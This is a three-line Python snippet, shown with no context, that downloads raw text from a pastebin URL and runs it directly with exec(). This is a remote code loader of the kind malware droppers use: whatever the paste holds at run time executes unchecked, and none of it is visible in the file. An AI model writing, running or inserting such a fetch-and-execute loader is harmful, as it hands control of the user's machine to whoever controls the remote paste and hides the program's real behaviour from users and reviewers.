import requests
code = requests.get("https://pastebin.com/raw/aBcDeFgH").text
exec(code)
